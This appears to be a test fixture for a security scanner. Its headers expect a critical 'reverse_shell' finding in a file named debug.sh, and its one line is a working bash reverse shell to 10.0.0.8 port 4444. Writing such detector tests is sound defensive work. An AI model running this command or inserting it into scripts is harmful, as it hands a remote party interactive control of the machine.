# expect: shell.reverse_shell critical
# path: debug.sh
bash -i >& /dev/tcp/10.0.0.8/4444 0>&1
